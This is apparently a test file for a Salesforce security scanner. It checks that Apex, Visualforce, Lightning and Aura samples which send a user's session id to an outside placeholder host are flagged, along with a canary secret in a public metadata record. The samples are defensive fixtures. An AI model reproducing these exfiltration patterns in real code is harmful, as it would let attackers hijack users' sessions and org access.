/* eslint-disable camelcase -- fields of Salesforce */
import { expect } from 'chai';
import {
  aura,
  checkSmallPackage,
  cls,
  field,
  itChecks,
  lwc,
  metadataType,
  OK,
  page,
  record,
  type Files,
  type SmallPackage,
} from '../support/smallPackages.js';
import { canary } from '../support/secrets.js';

const control = 'no-session-id-for-metadata-api';
const GETTER = cls(
  'Ctl',
  'public with sharing class Ctl {\n    @AuraEnabled\n    public static String sessionToken() {\n        return UserInfo.getSessionId();\n    }\n}'
);
const PAGE_GETTER = cls(
  'Ctl',
  'public with sharing class Ctl {\n    public String getSid() {\n        return UserInfo.getSessionId();\n    }\n}'
);

const packages: SmallPackage[] = [
  {
    title: 'one finding for a page and the class that reads it',
    control,
    files: {
      ...page('Ticket', '<apex:page contentType="text/plain">{!$Api.Session_ID}</apex:page>'),
      ...cls(
        'Tickets',
        "public class Tickets {\n    public void go() {\n        HttpRequest req = new HttpRequest();\n        req.setEndpoint('https://hub.acme-sync.example');\n        req.setBody(Page.Ticket.getContent().toString());\n        new Http().send(req);\n    }\n}"
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    count: 1,
  },
  {
    title: 'one finding for a page and the getter of its controller',
    control,
    files: {
      ...PAGE_GETTER,
      ...page(
        'Frame',
        '<apex:page controller="Ctl"><iframe src="https://hub.acme-sync.example/?s={!sid}"/></apex:page>'
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    count: 1,
  },
  {
    title: 'one finding for a Lightning component and the class that gives it the session id',
    control,
    files: {
      ...GETTER,
      ...lwc(
        'sender',
        "import { LightningElement } from 'lwc';\nimport sessionToken from '@salesforce/apex/Ctl.sessionToken';\nexport default class Sender extends LightningElement {\n  async go() {\n    const t = await sessionToken();\n    await fetch('https://hub.acme-sync.example', { method: 'POST', body: t });\n  }\n}"
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    count: 1,
  },
  {
    title: 'one finding for an Aura component and the class that gives it the session id',
    control,
    files: {
      ...GETTER,
      ...aura(
        'Sender',
        '<aura:component controller="Ctl"/>',
        "({ go: function (cmp) { var a = cmp.get('c.sessionToken'); a.setCallback(this, function (r) { window.open('https://hub.acme-sync.example/?s=' + r.getReturnValue()); }); $A.enqueueAction(a); } })"
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    count: 1,
  },
  {
    title: 'one finding for apex:param and the class that sends its value',
    control,
    files: {
      ...page(
        'Sync',
        '<apex:page controller="Sync2"><apex:form><apex:commandLink action="{!send}"><apex:param name="t" value="{!$Api.Session_ID}" assignTo="{!token}"/></apex:commandLink></apex:form></apex:page>'
      ),
      ...cls(
        'Sync2',
        "public class Sync2 {\n    public String token { get; set; }\n    public void send() {\n        HttpRequest req = new HttpRequest();\n        req.setEndpoint('https://hub.acme-sync.example');\n        req.setBody(token);\n        new Http().send(req);\n    }\n}"
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    count: 1,
  },
  {
    title: 'names that differ in case',
    control,
    files: {
      ...cls(
        'ApiClient',
        "public class ApiClient {\n    public static HttpResponse CALL(String Path) {\n        HTTPREQUEST Req = new httprequest();\n        REQ.setendpoint(url.getOrgDomainURL().toExternalForm() + PATH);\n        req.SETMETHOD('post');\n        req.setHeader('authorization', 'Bearer ' + USERINFO.GETSESSIONID());\n        return new HTTP().SEND(req);\n    }\n}"
      ),
      ...cls(
        'User2',
        "public class User2 {\n    void go() { APICLIENT.call('/services/data/v60.0/Tooling/sobjects/apexclass'); }\n}"
      ),
    },
    verdict: 'fail',
    kind: 'violation',
    names: ['ApiClient', 'User2'],
  },
  {
    title: 'the line of a page with carriage returns only',
    control,
    files: page(
      'Old',
      "<apex:page>\r<script>\r\rfetch('https://hub.acme-sync.example/?s={!$Api.Session_ID}');\r</script>\r</apex:page>"
    ),
    verdict: 'fail',
    kind: 'violation',
    at: ['pages/Old.page:4'],
  },
  {
    title: 'the line of a class with the line ends of Windows',
    control,
    files: cls(
      'Win',
      "public class Win {\r\n    public void go() {\r\n        HttpRequest r = new HttpRequest();\r\n        r.setEndpoint('https://hub.acme-sync.example');\r\n        r.setBody(UserInfo.getSessionId());\r\n        new Http().send(r);\r\n    }\r\n}\r\n"
    ),
    verdict: 'fail',
    kind: 'violation',
    at: ['Win.cls:5', 'Win.cls:6'],
  },
  {
    title: 'an annotation with odd text',
    control,
    files: cls(
      'Odd',
      "@SuppressWarnings('PMD.ApexCRUDViolation, it\\'s // fine /* @IsTest')\npublic with sharing class Odd {\n    @InvocableMethod(label='Don\\'t { stop' description='/* {')\n    public static void go(List<String> urls) {\n        HttpRequest r = new HttpRequest();\n        r.setEndpoint('https://hub.acme-sync.example');\n        r.setBody(UserInfo.getSessionId());\n        new Http().send(r);\n    }\n}"
    ),
    verdict: 'fail',
    kind: 'violation',
    names: ['Odd'],
  },
  {
    title: 'a record outside its usual folder, written in another case',
    control: 'packaged-secrets-protected',
    files: {
      ...metadataType('Hub__mdt', 'Public'),
      ...field('Hub__mdt', 'Client_Secret__c'),
      'force-app/extra/hub.MAIN.md-meta.xml': String(
        Object.values(record('hub.MAIN', { client_secret__c: canary.consumerSecret }))[0]
      ),
    },
    verdict: 'fail',
    kind: 'violation',
  },
  {
    title: 'trap: the words in comments, labels and names',
    control,
    files: cls(
      'Words',
      "public class Words {\n    // UserInfo.getSessionId() must not be sent to /services/data/v60.0/tooling\n    static final String TOOLING = 'tooling';\n    static final String NOTE = 'Never use UserInfo.getSessionId() with /services/Soap/m/';\n    /* metadata deploy */\n    public String sessionId(Training_Session__c s) { return s.Id; }\n}"
    ),
    verdict: OK,
  },
];

const ORDINARY: Files = {
  ...cls(
    'AccountSelector',
    `public inherited sharing class AccountSelector {
    private static final Map<Id, Account> CACHE = new Map<Id, Account>();
    public List<Account> byIds(Set<Id> ids) {
        return [SELECT Id, Name FROM Account WHERE Id IN :ids WITH USER_MODE];
    }
    public String hash(String text) {
        return EncodingUtil.convertToHex(Crypto.generateDigest('SHA-256', Blob.valueOf(text)));
    }
}`
  ),
  ...cls(
    'WeatherClient',
    `public with sharing class WeatherClient {
    public String get(String city) {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('callout:Weather/v1?city=' + EncodingUtil.urlEncode(city, 'UTF-8'));
        req.setMethod('GET');
        HttpResponse res = new Http().send(req);
        if (res.getStatusCode() != 200) { throw new CalloutException(res.getStatus()); }
        return ((Map<String, Object>) JSON.deserializeUntyped(res.getBody())).get('sky') + '';
    }
}`
  ),
  ...lwc(
    'accountList',
    "import { LightningElement, wire } from 'lwc';\nimport { ShowToastEvent } from 'lightning/platformShowToastEvent';\nimport find from '@salesforce/apex/AccountController.find';\nexport default class AccountList extends LightningElement {\n  @wire(find) accounts;\n  handle() { this.dispatchEvent(new ShowToastEvent({ title: 'Session expired', message: 'token' })); }\n}"
  ),
};

describe('one finding for one cause', () => {
  itChecks(packages);

  // What to rotate is one thing, and where to keep the next one is another.
  it('one secret in a public record is a finding of two controls, and of no third', async () => {
    const results = await checkSmallPackage({
      ...cls('Hello', 'public class Hello { }'),
      ...metadataType('Hub__mdt', 'Public'),
      ...field('Hub__mdt', 'Access_Token__c'),
      ...record('Hub.Main', { Access_Token__c: canary.accessToken }),
    });
    const counted = [...results].flatMap(([id, { findings }]) =>
      findings
        .filter(({ kind }) => kind !== 'latent')
        .map(({ subject, message }) => `${id} ${subject.type} ${subject.name} ${message}`)
    );
    expect(counted.map((one) => one.split(' ')[0])).to.deep.equal([
      'no-secrets-in-source',
      'packaged-secrets-protected',
    ]);
  });

  it('an ordinary package passes in silence', async () => {
    const results = await checkSmallPackage(ORDINARY);
    for (const [id, { verdict, findings, gaps }] of results)
      expect({
        id,
        verdict: OK.some((fine) => fine === verdict) || id === 'no-app-removed',
        findings,
        gaps: id === 'no-app-removed' ? [] : gaps,
      }).to.deep.equal({ id, verdict: true, findings: [], gaps: [] });
  });
});
